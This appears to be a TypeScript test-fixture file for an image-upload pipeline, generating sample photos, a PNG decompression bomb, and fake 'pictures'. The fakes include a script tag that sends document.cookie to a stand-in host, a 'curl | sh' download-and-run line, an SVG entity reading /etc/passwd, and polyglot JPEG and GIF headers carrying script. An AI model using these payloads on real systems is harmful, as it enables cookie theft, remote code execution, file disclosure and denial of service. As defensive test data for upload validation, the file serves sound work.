import { crc32, deflateSync } from 'node:zlib'
import sharp, { type Sharp } from 'sharp'

/** Left half red, right half blue, with all the metadata that a phone writes. Held so that it must be turned a quarter to the right. */
export function snapshot(width = 400, height = 200): Promise<Buffer> {
  const half = { width: width / 2, height, channels: 3, background: '#2030c0' } as const
  return sharp({ create: { width, height, channels: 3, background: '#c02020' } })
    .composite([{ input: { create: half }, left: width / 2, top: 0 }])
    .jpeg({ quality: 95 })
    .withExif({
      IFD0: { Make: 'a phone of Lin', Orientation: '6', ImageDescription: 'her kitchen' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '31/1 14/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '121/1 28/1 0/1' },
    })
    .withMetadata({ orientation: 6 })
    .withIccProfile('p3')
    .toBuffer()
}

export const plain = (width: number, height: number, colour = '#336699') =>
  sharp({ create: { width, height, channels: 3, background: colour } })

/** Noise, which no encoder makes small. */
export function noise(width: number, height: number): Sharp {
  let seed = 7
  const pixels = Buffer.alloc(width * height * 3, 0)
  for (let i = 0; i < pixels.length; i += 1) {
    seed = (seed * 1103515245 + 12345) % 2147483648
    pixels[i] = seed >> 16
  }
  return sharp(pixels, { raw: { width, height, channels: 3 } })
}

/** A PNG of a few kilobytes that would fill the memory when it is decoded: one bit for each of width × height pixels, all black. */
export function bomb(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
    const frame = Buffer.alloc(8)
    frame.writeUInt32BE(data.length, 0)
    frame.writeUInt32BE(crc32(body), 4)
    return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)])
  }
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head[8] = 1
  const rows = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height), { level: 1 })
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', head),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

export const script = '<script>fetch("https://elsewhere.example/"+document.cookie)</script>'

/** What calls itself a picture and is none. */
export const impostors: Record<string, Buffer> = {
  'a script': Buffer.from('#!/bin/sh\ncurl https://elsewhere.example | sh\n'),
  'a page': Buffer.from(`<!doctype html><html><body>${script}</body></html>`),
  'an SVG': Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">${script}<rect width="10" height="10"/></svg>`),
  'an SVG with a head of XML': Buffer.from(
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&x;</text></svg>`,
  ),
  'a PDF': Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF'),
  'an archive': Buffer.from('504b0304140000000800', 'hex'),
  'the first bytes of a JPEG and then a script': Buffer.concat([Buffer.from('ffd8ffe000104a46494600', 'hex'), Buffer.from(script)]),
  'the first bytes of a GIF and then a script': Buffer.from(`GIF89a=1;${script}`),
  'nothing at all': Buffer.alloc(0),
  noise: Buffer.from(Array.from({ length: 5000 }, (_, i) => (i * 7919) % 251)),
}
